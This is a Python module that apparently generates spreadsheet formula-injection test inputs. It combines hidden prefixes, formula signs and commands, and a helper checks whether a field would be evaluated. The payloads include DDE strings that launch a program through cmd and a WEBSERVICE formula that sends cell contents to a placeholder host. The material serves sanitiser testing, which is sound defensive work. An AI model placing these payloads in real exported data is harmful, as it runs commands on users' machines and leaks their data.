"""Texts that spreadsheet programs calculate, combined from signs, commands and what may hide a sign."""

from __future__ import annotations

HIDING = ("", " ", "\u3000", "\u00a0", "\u200b", "\ufeff", "\t", "\r\n")
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
COMMANDS = (
    "1+1",
    "A1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","y")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
)
PAYLOADS = tuple(f"{hiding}{sign}{command}" for hiding in HIDING for sign in SIGNS for command in COMMANDS)


def would_be_calculated(text: str) -> bool:
    """Whether a spreadsheet that opens a text table takes this field for a formula, whatever hides its sign."""
    return text.lstrip("".join(HIDING)).startswith(SIGNS)
